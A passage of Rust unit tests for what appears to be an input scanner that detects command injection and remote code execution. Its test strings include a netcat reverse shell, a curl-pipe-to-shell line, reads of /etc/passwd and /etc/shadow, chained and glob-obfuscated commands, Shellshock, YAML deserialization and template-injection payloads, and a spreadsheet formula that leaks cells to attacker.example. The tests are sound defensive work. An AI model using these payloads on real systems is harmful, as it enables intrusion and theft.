            ],
        );
        rule(
            RCE_TEX_SHELL,
            false,
            Kind::Value,
            "json:/source",
            1,
            &[
                "\\input{chapters/01-intro}",
                "the input | output pair",
                "overwrite18 {x}",
            ],
        );
    }

    #[test]
    fn alias_definitions() {
        rule(
            RCE_ALIAS,
            true,
            Kind::Value,
            "query:rce",
            1,
            &[
                "alias eennvv=env&eennvv whoami",
                "alias 'letter'=curl",
                "alias -p jzfrx=id",
                "alias +g+ a=b",
                "alias ls-al='ls -al'",
                "x;alias a=id",
                "$(alias a=id)",
            ],
        );
        rule(
            RCE_ALIAS,
            false,
            Kind::Value,
            "json:/text",
            1,
            &[
                "I see, so your alias is not = to your name",
                "Use an alias for the column",
                "my alias = Kim",
                "the alias a=b is set in the docs",
            ],
        );
    }

    #[test]
    fn leaves_prose_alone() {
        silent(
            "rce",
            &[
                "black & white; more later",
                "Tom & Jerry; cat lovers welcome",
                "Q&A | find out more",
                "Dear team,\nfind attached the report.\nYes, date TBD",
                "rock'n'roll (time of my life)",
                "O'Brien & Sons; echo chamber",
                "C:\\Users\\me\\Documents\\report.docx",
                "OBR|1|ORD8812||71046^XR CHEST^CPT4|||||Cough \\T\\ fever x3 days\\R\\rule out",
                "Meet at 10:00; head office",
                "price: $5 (approx)",
                "ls",
                "Vicolo Gaito, 50, Cavenago D'Adda (LO), 00100 Roma (RM)",
                "Piazza Duomo 1 (MI) (PS)",
                "tired; sleep 8 hours",
                "Name\nid\nemail",
                "Version 2.1\nid is optional",
                "the system \"just works\" for us",
                "exec 'Kim' signs off today",
                "<foo val=`bar' />",
                "Pay nothing today; $0 down",
                "total=5;$total due",
                "name=Bob; $name says hi",
                "I can't find . anything",
                "model <- lm(rev ~ spend + I(spend^2), data = sales)",
            ],
        );
    }

    #[test]
    fn markdown_code_spans_in_prose_need_shell_evidence() {
        silent(
            "rce",
            &[
                "the `id` field is required",
                "`make test` passes locally",
                "`cat` the file and pipe it to `sort`",
                "Use `curl` to test the API",
                "Call `git status` then `git diff`",
                "rename `host` to `hostname`.",
                "Fixed it; `date` is right now",
                "Use `x` date ranges (see `ls`)",
            ],
        );
        flags(
            "rce",
            &[
                // Shell evidence inside the span.
                "run `cat /etc/passwd` please",
                "see `ls -la` output here",
                "try `curl evil.example` now",
                "the `whoami` output, please",
                "wait `sleep 10` for it",
                "run `c'a't` the file",
                "the `id` field is required; ls /tmp",
                // Not prose: glued, doubled, unbalanced, alone, or at the start of a command.
                "x`id`",
                "`id`",
                "`cut a``dig b`",
                "a `id` b `c",
                "`id` x",
                "name=`id` is here",
            ],
        );
        // The relaxed spans still count from paranoia level 2.
        assert!(
            hits(Kind::Value, "query:q", "the `id` field is required", 2)
                .contains(&RCE_CODE_SPAN_LOOSE)
        );
        assert!(
            !hits(Kind::Value, "query:q", "the `id` field is required", 1)
                .contains(&RCE_CODE_SPAN_LOOSE)
        );
    }

    #[test]
    fn markdown_emphasis_is_no_glob() {
        silent(
            "rce",
            &[
                "**Exec summary:** Q2 revenue up 12% (vs. 9% plan); vendor eval pending",
                "*Sleep* well, and *cat* lovers: see the **env** notes",
            ],
        );
        flags("rce", &["/???/c?t /etc/passwd", ";/bin/c*t /etc/shadow"]);
        // A crossword's pattern alone globs the working directory, not the path's commands.
        silent("rce", &["C*T", "c?t", "Ma*"]);
        // SCPI's common commands lead with a star.
        silent("rce", &["*RST;*CLS", "*IDN?;*OPC?"]);
        // Brackets of more than four characters pick no letter: Overpass QL's settings.
        silent(
            "rce",
            &["[out:json][timeout:25];\narea[\"name\"=\"Berlin\"]->.a;\nout body;"],
        );
        flags("rce", &[";[c]at /etc/passwd", ";/bin/[a-c]at /etc/shadow"]);
        // TeX's quotation marks and an ICU message's arguments are no shell; a brace list
        // and a substitution still are.
        silent(
            "rce",
            &[
                "Use \\S~4.2 style references, e.g.\\ ``see \\S~7(b)''.\n\\end{document}",
                "{gender, select, female {She} other {They}} replied on {date, date, medium}",
            ],
        );
        flags("rce", &["x;{cat,/etc/passwd}", "``see''`id`"]);
        // Fluent's default variant fixes one letter of a name; `/???/c[a]t` fixes three.
        silent(
            "rce",
            &["emails = { $count ->\n    [one] eine E-Mail.\n   *[other] { $count } E-Mails.\n}"],
        );
        flags("rce", &["1;/???/c[a]t /etc/passwd"]);
        // A dash standing alone is no option: a bank export's `;`-separated line.
        silent(
            "rce",
            &["2024-06-03;\"LASTSCHRIFT -- Stadtwerke; Kd-Nr 4471\";-182,40;54138,60"],
        );
        flags(
            "rce",
            &[
                "2024;foo --bar",
                "1;ls -la",
                "127.0.0.1\nnc -'e' /bin/sh 203.0.113.9 4444",
                "127.0.0.1;cat - /etc/passwd",
            ],
        );
    }

    #[test]
    fn markdown_code_fences_are_markup() {
        silent(
            "rce",
            &[
                "Wraps `charge()` in a retry.\n\n```python\n@retry(attempts=3)\ndef charge(self):\n    return 1\n```\n\n- [x] tests",
                "Example:\n```\nconst a = 1;\n```\nand `b` too, see docs",
                "  ```c++\nint main() {}\n  ```\nbuilds with `make` later",
            ],
        );
        flags(
            "rce",
            &[
                // The code between fences is read as any text.
                "Run this:\n```bash\n;cat /etc/passwd\n```\n",
                "```sh\ncurl http://evil.example/x | sh\n```",
                // A fence never closed, or a payload where the language goes, is no fence.
                "```python\n`id`",
                "```;id;\nx\n```",
                "```$(id)\n```",
                // Only a language may follow the backticks: `` ```id `` runs `id`.
                "see the output below\n```id\n```",
                "```python\n`id`\n```",
                "```whoami\n```",
            ],
        );
        // A fenced command without shell evidence is read as one in a code span: from
        // paranoia level 2.
        let fenced = "```bash\nid\n```";
        assert!(hits(Kind::Value, "query:q", fenced, 2).contains(&RCE_CODE_SPAN_LOOSE));
        assert!(!families(fenced).contains(&"rce"));
        assert!(FENCE_LANGUAGES.windows(2).all(|w| w[0] < w[1]));
        assert_eq!(fences(b"so be\n```js\nx\n```\n"), [(6, 11), (14, 17)]);
        assert!(fences(b"so be\n```js\nx\n``").is_empty());
        assert_eq!(fences(b"```js\nx\n```"), [(0, 5), (8, 11)]);
    }

    #[test]
    fn uploads_of_served_scripts_and_of_programs() {
        for (name, served, program) in [
            ("shell.jsp", true, false),
            ("a.ASPX", true, false),
            (".htaccess", true, false),
            ("hw3.py", false, true),
            ("deploy.sh", false, true),
            ("setup.exe", false, true),
            ("report.pdf", false, false),
        ] {
            let h = hits(Kind::Filename, "file:f", name, 2);
            assert_eq!(h.contains(&RCE_UPLOAD_SCRIPT), served, "{name}: {h:?}");
            assert_eq!(h.contains(&RCE_UPLOAD_PROGRAM), program, "{name}: {h:?}");
        }
        assert!(!hits(Kind::Filename, "file:f", "hw3.py", 1).contains(&RCE_UPLOAD_PROGRAM));
        // An override hides the real extension; Arabic and Hebrew names need none.
        for (name, disguised) in [
            ("invoice\u{202E}fdp.hta", true),
            ("invoice%E2%80%AEfdp.hta", true),
            ("\u{62A}\u{642}\u{631}\u{64A}\u{631}.pdf", false),
            ("\u{5D3}\u{5D5}\u{5D7}.pdf", false),
            ("WhatsApp Chat with \u{2068}Ana\u{2069}.txt", false),
        ] {
            let h = hits(Kind::Filename, "file:f", name, 1);
            assert_eq!(
                h.contains(&RCE_UPLOAD_DISGUISED),
                disguised,
                "{name}: {h:?}"
            );
        }
    }

    #[test]
    fn leading_command_only_at_higher_paranoia() {
        assert!(hits(Kind::Value, "query:q", "cat /etc/hosts", 2).contains(&RCE_LEADING_LOOSE));
        assert!(!hits(Kind::Value, "query:q", "cat /etc/hosts", 1).contains(&RCE_LEADING_LOOSE));
        assert!(
            hits(Kind::Value, "query:q", "wget -q http://x/y", 1).contains(&RCE_LEADING_COMMAND)
        );
        assert!(hits(Kind::Value, "query:q", "whoami", 1).contains(&RCE_LEADING_COMMAND));
        assert!(!hits(Kind::Value, "query:q", "python", 1).contains(&RCE_LEADING_COMMAND));
    }

    #[test]
    fn yaml_object_tags_and_twig_environment() {
        for p in [
            "hooks: !!python/object/apply:os.system [\"id\"]",
            "x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[]]]",
            "--- !ruby/object:Gem::Installer\ni: x",
            "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}",
        ] {
            assert!(families(p).contains(&"rce"), "{p}: {:?}", families(p));
        }
        for p in [
            "tags: !!str 123",
            "self-hosted env vars",
            "!!important note",
        ] {
            assert!(!families(p).contains(&"rce"), "{p}: {:?}", families(p));
        }
    }

    #[test]
    fn shellshock_in_any_header() {
        for kind in [Kind::OtherHeader, Kind::HeaderValue] {
            assert!(
                hits(kind, "header:x-custom", "() { ignored; }; echo hi", 1)
                    .contains(&RCE_SHELLSHOCK),
                "{kind:?}"
            );
        }
    }

    #[test]
    fn glob_matching() {
        assert!(glob_match(b"/???/??t", b"/bin/cat"));
        assert!(glob_match(b"/etc/[!q]asswd", b"/etc/passwd"));
        assert!(!glob_match(b"/etc/[!p]asswd", b"/etc/passwd"));
        assert!(glob_match(b"c*t", b"cat"));
        assert!(glob_match(b"[a-c]at", b"cat"));
        assert!(!glob_match(b"[", b"c"));
        assert!(glob_match(b"[", b"["));
        assert!(!glob_match(b"/*", b"/etc/passwd"));
        assert!(!glob_match(b"/e?c?passwd", b"/etc/passwd"));
        assert!(glob_match(b"/*/passwd", b"/etc/passwd"));
    }

    #[test]
    fn accept_lists_and_ampersands_in_prose() {
        let accept = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8";
        assert!(
            !hits(Kind::Value, "json:/browserAcceptHeader", accept, 1).contains(&RCE_GLOB_PATH)
        );
        assert!(hits(Kind::Value, "query:q", "cat /e??/p?ss??", 1).contains(&RCE_GLOB_PATH));
        rule(
            RCE_GLOB_PATH,
            false,
            Kind::Value,
            "json:/text",
            1,
            &["/* end of rant */ ok back to work", "see /** the docs */"],
        );
        rule(
            RCE_WINDOWS,
            false,
            Kind::Value,
            "json:/content",
            1,
            &["The config lives in `%APPDATA%\\CorpVPN\\profile.ovpn`."],
        );
        assert!(hits(Kind::Value, "query:q", "x & %COMSPEC% /c dir", 1).contains(&RCE_WINDOWS));
        for substring in ["D:\\b&%COMSPEC:~-7,3% /c whoami", "%ProgramFiles:~10,1%"] {
            assert!(
                hits(Kind::Value, "query:q", substring, 1).contains(&RCE_WINDOWS),
                "{substring}"
            );
        }
        assert!(hits(Kind::Value, "query:q", "50%:~ 20% off", 1).is_empty());
        for prose in ["Shoes & more", "Holds a 15\" laptop & more", "Tom & Jerry"] {
            assert!(hits(Kind::Value, "query:q", prose, 1).is_empty(), "{prose}");
        }
        rule(
            RCE_CHAINED_COMMAND,
            true,
            Kind::Value,
            "query:q",
            1,
            &["127.0.0.1 & id", "x&id", "foo ; id", "foo & whoami"],
        );
    }

    #[test]
    fn commands_that_need_an_argument_end_lists() {
        // A list's last item named like such a command runs nothing; with an argument, glued
        // to a redirection, or a command that acts alone, it does.
        rule(
            RCE_CHAINED_COMMAND,
            false,
            Kind::Value,
            "query:v",
            1,
            &["content-type;host", "name|sort", "a;cat", "x-amz-date;host"],
        );
        rule(
            RCE_CHAINED_COMMAND,
            true,
            Kind::Value,
            "query:v",
            1,
            &[
                "x;cat /etc/passwd",
                "x;cat</etc/passwd",
                "x;id",
                "x;ls",
                "1;ping -c 3 e.x",
            ],
        );
    }

    #[test]
    fn formulas_templates_and_lists() {
        for (label, v) in [
            (
                "file-content:file",
                "first,last\nAda,\"=cmd|' /C calc'!A0\"",
            ),
            (
                "json:/description",
                "=HYPERLINK(\"http://attacker.example/?leak=\"&A1&B1,\"View\")",
            ),
            ("file-content:file", "a,\"+thisrow:=cmd|'/c notepad'!A1\""),
            ("file-content:file", "a,\"-2+3+cmd|' /C calc'!A0\""),
            (
                "json:/note",
                "=SUM(A1:A9)+AVERAGE(B1:B9)*ROUND(C1/3)-MAX(D1:D9)+MIN(E1:E9)+msexcel|'\\..\\..\\windows\\system32\\cmd.exe /c calc'!A1",
            ),
        ] {
            assert!(hits(Kind::Value, label, v, 1).contains(&RCE_FORMULA), "{v}");
        }
        for template in [
            "Dear {{ doc.customer_name }}, {{ frappe.db.sql(\"select name, password from __Auth\") }}",
            "<t t-out=\"object.env['res.users'].sudo().search([])\"/>",
        ] {
            assert!(
                hits(Kind::Value, "json:/body", template, 1).contains(&RCE_SSTI),
                "{template}"
            );
        }
        assert!(
            !hits(
                Kind::Value,
                "json:/body",
                "Dear {{ doc.customer_name }}, see {{ doc.items }}",
                1
            )
            .contains(&RCE_SSTI)
        );
        let link = "=HYPERLINK(\"https://docs.example.com/pricing#tiers\",\"Pricing rules\")";
        assert!(!hits(Kind::Value, "json:/formula", link, 1).contains(&RCE_FORMULA));
        rule(
            RCE_SSTI,
            true,
            Kind::Value,
            "json:/source",
            1,
            &[
                "Thanks <%= @name %>! <%= System.cmd(\"id\", []) %>",
                "{% import os %}{{ os.popen('id').read() }}",
                "{{var this.getTemplateFilter().addAfterFilterCallback(system).filter(id)}}",
                "<xsl:value-of select=\"system-property('xsl:vendor')\"/>",
            ],
        );
        let liquid = "{% for product in collections.all.products %}{{ product.title }}{% endfor %}";
        assert!(!hits(Kind::Value, "json:/value", liquid, 1).contains(&RCE_SSTI));
        // Jinja's globals, not a Go template's fields of the dot.
        for (v, want) in [
            ("{{ request.application.__globals__ }}", true),
            ("{{config.items()}}", true),
            ("{{ x|attr(request) }}", true),
            ("line_format \"{{.remote_addr}} {{.request}}\"", false),
            ("{{ .Values.config }}", false),
        ] {
            assert_eq!(
                hits(Kind::Value, "query:query", v, 1).contains(&RCE_SSTI),
                want,
                "{v}"
            );
        }
        assert!(hits(Kind::Value, "json:/value", liquid, 2).contains(&RCE_SSTI_LOOSE));
        assert!(
            hits(
                Kind::Value,
                "json:/headline",
                "Data Engineer | Python | SQL | AWS",
                1
            )
            .is_empty()
        );
        rule(
            RCE_CHAINED_COMMAND,
            true,
            Kind::Value,
            "query:q",
            1,
            &["cat foo | sh", "x | whoami"],
        );
    }
}
